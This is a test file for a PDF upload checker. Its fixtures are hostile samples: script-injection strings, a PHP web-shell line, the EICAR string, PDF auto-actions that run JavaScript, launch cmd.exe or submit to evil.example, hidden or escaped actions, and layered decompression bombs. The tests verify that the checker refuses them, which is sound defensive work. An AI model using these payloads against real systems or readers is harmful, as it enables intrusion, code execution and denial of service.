import { createHash } from 'node:crypto';
import { deflateSync } from 'node:zlib';
import { PDFDocument, PDFName, PDFString, StandardFonts } from 'pdf-lib';
import { checkPdf } from './pdf-check.js';

const limits = { maxBytes: 20_000_000, maxPages: 30, timeoutMs: 10_000 };

async function document(pages = 2, change?: (pdf: PDFDocument) => void | Promise<void>): Promise<PDFDocument> {
  const pdf = await PDFDocument.create();
  const font = await pdf.embedFont(StandardFonts.Helvetica);
  for (let page = 0; page < pages; page += 1) pdf.addPage().drawText(`Page ${page + 1}`, { font });
  await change?.(pdf);
  return pdf;
}

const built = async (pages?: number, change?: (pdf: PDFDocument) => void | Promise<void>, useObjectStreams = true) =>
  (await document(pages, change)).save({ useObjectStreams });

/** A PDF written by hand, with a right cross-reference table over the given objects; object 1 is the catalogue. */
function written(objects: (string | Buffer)[], trailer = '', head = '%PDF-1.7\n'): Buffer {
  const chunks: Buffer[] = [Buffer.from(head, 'latin1')];
  const offsets: number[] = [];
  let start = head.length;
  objects.forEach((object, index) => {
    offsets.push(start);
    const chunk = Buffer.concat([`${index + 1} 0 obj\n`, object, '\nendobj\n'].map((part) => Buffer.from(part)));
    start += chunk.byteLength;
    chunks.push(chunk);
  });
  const table = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('');
  const size = objects.length + 1;
  chunks.push(
    Buffer.from(`xref\n0 ${size}\n0000000000 65535 f \n${table}trailer\n<< /Size ${size} /Root 1 0 R ${trailer} >>\n`),
  );
  chunks.push(Buffer.from(`startxref\n${start}\n%%EOF\n`));
  return Buffer.concat(chunks);
}
const CATALOG = '<< /Type /Catalog /Pages 2 0 R >>';
const PAGES = '<< /Type /Pages /Kids [3 0 R] /Count 1 >>';
const PAGE = '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>';
const stream = (dict: string, body: Buffer) =>
  Buffer.concat([Buffer.from(`<< ${dict} /Length ${body.byteLength} >>\nstream\n`), body, Buffer.from('\nendstream')]);

test.each([true, false])('an honest PDF gives its pages and hash (object streams: %p)', async (objectStreams) => {
  const bytes = await built(7, undefined, objectStreams);
  const sha256 = createHash('sha256').update(bytes).digest('hex');
  expect(await checkPdf(bytes, limits)).toEqual({ pages: 7, sha256 });
  expect(await checkPdf(async () => Uint8Array.from(bytes), limits)).toEqual({ pages: 7, sha256 });
  expect(await checkPdf(written([CATALOG, PAGES, PAGE]), limits)).toMatchObject({ pages: 1 });
});

test('links to other pages and to the web are no active content', async () => {
  const link = '<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://doi.org/10.1/x) >> >>';
  const page = PAGE.replace('>>', '/Annots [4 0 R] >>');
  const catalog = CATALOG.replace('>>', '/OpenAction [3 0 R /Fit] >>');
  expect(await checkPdf(written([catalog, PAGES, page, link]), limits)).toMatchObject({ pages: 1 });
});

test('twelve documents at once are all judged', async () => {
  const all = await Promise.all(Array.from({ length: 12 }, (_, index) => built(index + 1)));
  const verdicts = await Promise.all(all.map((bytes) => checkPdf(bytes, limits)));
  expect(verdicts.map(({ pages }) => pages)).toEqual(all.map((_, index) => index + 1));
});

test('pages and bytes above the limits are refused with the limit named', async () => {
  const bytes = await built(31);
  await expect(checkPdf(bytes, limits)).rejects.toMatchObject({
    code: 'files.too_many_pages',
    params: { pages: 31, maxPages: 30 },
  });
  const failure = checkPdf(bytes, { ...limits, maxBytes: bytes.byteLength - 1 });
  await expect(failure).rejects.toMatchObject({ code: 'files.too_large', kind: 'too_large' });
});

test('a page tree that claims fewer pages than it has does not pass the limit', async () => {
  const kids = Array.from({ length: 40 }, (_, index) => `${index + 3} 0 R`).join(' ');
  const lying = written([CATALOG, `<< /Type /Pages /Kids [${kids}] /Count 1 >>`, ...Array<string>(40).fill(PAGE)]);
  await expect(checkPdf(lying, limits)).rejects.toMatchObject({ code: 'files.too_many_pages' });
});

test('a page tree that runs in a circle is refused, in time', async () => {
  const circle = written([CATALOG, '<< /Type /Pages /Kids [2 0 R] /Count 1 >>']);
  await expect(checkPdf(circle, limits)).rejects.toMatchObject({ code: 'files.unreadable' });
});

const EOF_MARK = '\n%%EOF\n';
test.each([
  ['nothing', ''],
  ['text', 'hello'],
  ['HTML', '<html><script>alert(1)</script></html>'],
  ['HTML before the PDF', `<html>%PDF-1.7\n${EOF_MARK}`],
  ['a blank before the PDF', ` %PDF-1.7\n${EOF_MARK}`],
  ['a BOM before the PDF', `\ufeff%PDF-1.7\n${EOF_MARK}`],
  ['HTML at the head of a PDF', `%PDF-1.7\n%<script>alert(1)</script>${EOF_MARK}`],
  ['an SVG at the head', `%PDF-1.7\n< SVG onload=alert(1)>${EOF_MARK}`],
  ['PHP at the head', `%PDF-1.7\n<?php system($_GET[0]); ?>${EOF_MARK}`],
  ['a ZIP', 'PK\u0003\u0004 and so on'],
  ['a ZIP at the head of a PDF', `%PDF-1.7\nPK\u0003\u0004${EOF_MARK}`],
  ['a ZIP at the end of a PDF', `%PDF-1.7\n${EOF_MARK}PK\u0005\u0006${'\0'.repeat(18)}`],
  ['EICAR', 'X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'],
  ['a version that is none', `%PDF-<b>\n${EOF_MARK}`],
  ['an image', '\u0089PNG\r\n\u001a\n'],
])('%s is no PDF', async (_, text) => {
  await expect(checkPdf(Buffer.from(text), limits)).rejects.toMatchObject({ code: 'files.not_pdf', kind: 'invalid' });
});

test('a document that is cut off, overwritten in the middle or only a shell is unreadable', async () => {
  const bytes = Buffer.from(await built(3));
  const shell = Buffer.from(`%PDF-1.7\n${EOF_MARK}`);
  const holes = Buffer.from(bytes);
  holes.fill(0x41, 15, holes.byteLength - 60);
  for (const broken of [bytes.subarray(0, bytes.byteLength - 40), shell, holes])
    await expect(checkPdf(broken, limits)).rejects.toMatchObject({ code: 'files.unreadable' });
});

test('protection by a password is told as such', async () => {
  const hex = '00'.repeat(32);
  const encrypt = `<< /Filter /Standard /V 1 /R 2 /P -4 /O <${hex}> /U <${hex}> >>`;
  const locked = written([CATALOG, PAGES, PAGE, encrypt], `/Encrypt 4 0 R /ID [<${hex}> <${hex}>]`);
  await expect(checkPdf(locked, limits)).rejects.toMatchObject({ code: 'files.encrypted' });
});

describe('active content is refused', () => {
  const action = (pdf: PDFDocument, entries: Record<string, string>) => {
    const values = Object.entries(entries).map(([key, text]) => [
      key,
      key === 'S' ? PDFName.of(text) : PDFString.of(text),
    ]);
    pdf.catalog.set(PDFName.of('OpenAction'), pdf.context.obj(Object.fromEntries(values)));
  };

  test.each([true, false])(
    'JavaScript, programs and attached files made by a library (object streams: %p)',
    async (packed) => {
      const hostile = [
        (pdf: PDFDocument) => pdf.addJavaScript('start', 'app.alert(1)'),
        (pdf: PDFDocument) => action(pdf, { S: 'JavaScript', JS: 'app.alert(1)' }),
        (pdf: PDFDocument) => action(pdf, { S: 'Launch', F: 'cmd.exe' }),
        (pdf: PDFDocument) => action(pdf, { S: 'SubmitForm', F: 'https://evil.example/' }),
        (pdf: PDFDocument) => action(pdf, { S: 'URI', URI: 'javascript:alert(1)' }),
        (pdf: PDFDocument) => pdf.attach(Buffer.from('MZ'), 'tool.exe', { mimeType: 'application/octet-stream' }),
      ];
      for (const change of hostile) {
        const bytes = await built(1, change, packed);
        await expect(checkPdf(bytes, limits)).rejects.toMatchObject({ code: 'files.active_content' });
      }
    },
  );

  test.each([
    ['a name with escapes', CATALOG.replace('>>', '/OpenAction << /S /J#61vaScript /#4aS (app.alert(1)) >> >>'), ''],
    ['an object that nothing refers to', CATALOG, '<< /S /Launch /F (cmd.exe) >>'],
    ['an embedded file that nothing refers to', CATALOG, '<< /Type /Filespec /F (a.exe) /EF << /F 9 0 R >> >>'],
    [
      'an old object that a later one of the same number hides',
      CATALOG,
      '<< /S /JavaScript >>\nendobj\n4 0 obj\n<< >>',
    ],
    ['an action deep in arrays', CATALOG, `${'['.repeat(50)}<< /S /JavaScript >>${']'.repeat(50)}`],
    ['an object that is damaged', CATALOG, '<< /S /JavaScript /JS (x) /Broken <<< >>'],
    ['a form of the XFA kind', CATALOG.replace('>>', '/AcroForm << /Fields [] /XFA (x) >> >>'), ''],
    ['a sound and film player', CATALOG, '<< /Type /Annot /Subtype /RichMedia /Rect [0 0 1 1] >>'],
  ])('in %s', async (_, catalog, extra) => {
    const bytes = written([catalog, PAGES, PAGE, extra === '' ? '<< >>' : extra]);
    await expect(checkPdf(bytes, limits)).rejects.toMatchObject({ code: 'files.active_content' });
  });
});

describe('bombs', () => {
  /** Zeros packed layer on layer: `layers` of Flate, a few kilobytes for gigabytes. */
  function bomb(megabytes: number, layers: number): Buffer {
    let body = deflateSync(Buffer.alloc(megabytes * 1_048_576), { level: 9 });
    for (let layer = 1; layer < layers; layer += 1) body = deflateSync(body, { level: 9 });
    return body;
  }

  test.each([1, 2])(
    'an object stream that unpacks to 400 MB in %i layers ends at the memory limit, and the process stays',
    async (layers) => {
      const filters = Array<string>(layers).fill('/FlateDecode').join(' ');
      const packed = stream(`/Type /ObjStm /N 1 /First 4 /Filter [${filters}]`, bomb(400, layers));
      const bytes = written([CATALOG, PAGES, PAGE, packed]);
      expect(bytes.byteLength).toBeLessThan(1_000_000);
      const before = process.memoryUsage().rss;
      await expect(checkPdf(bytes, limits)).rejects.toMatchObject({
        code: 'files.unreadable',
        params: { reason: 'too_much_memory' },
      });
      expect(process.memoryUsage().rss - before).toBeLessThan(300 * 1_048_576);
      expect(await checkPdf(await built(2), limits)).toMatchObject({ pages: 2 });
    },
  );

  test('a document that takes too long is given up while others are served', async () => {
    const many = Array<string>(60_000).fill('<< /A [1 2 3 4 5 6 7 8 9] /B << /C (text) >> >>');
    const slow = written([CATALOG, PAGES, PAGE, ...many]);
    const [refused, fine] = await Promise.allSettled([
      checkPdf(slow, { ...limits, timeoutMs: 30 }),
      checkPdf(await built(3), limits),
    ]);
    expect(refused).toMatchObject({ reason: { code: 'files.unreadable', params: { reason: 'too_slow' } } });
    expect(fine).toMatchObject({ value: { pages: 3 } });
  });

  test('arrays nested a hundred thousand deep are no crash and hide nothing', async () => {
    const deep = (core: string) => written([CATALOG, PAGES, PAGE, '['.repeat(100_000) + core + ']'.repeat(100_000)]);
    expect(await checkPdf(deep(''), limits)).toMatchObject({ pages: 1 });
    const hostile = deep('<< /S /J#61vaScript >>');
    await expect(checkPdf(hostile, limits)).rejects.toMatchObject({ code: 'files.active_content' });
  });
});

test('random damage to a good document never makes anything but a verdict', async () => {
  const good = Buffer.from(await built(3, undefined, false));
  for (let round = 0; round < 25; round += 1) {
    const bytes = Buffer.from(good);
    for (let hit = 0; hit < 8; hit += 1)
      bytes[(round * 7919 + hit * 104_729) % (bytes.byteLength - 40)] = (round * 31 + hit * 17) % 256;
    const [verdict] = await Promise.allSettled([checkPdf(bytes, limits)]);
    if (verdict?.status === 'rejected')
      expect(verdict.reason).toMatchObject({ code: expect.stringMatching(/^files\./) });
    else expect(verdict?.value.pages).toBeGreaterThan(0);
  }
});
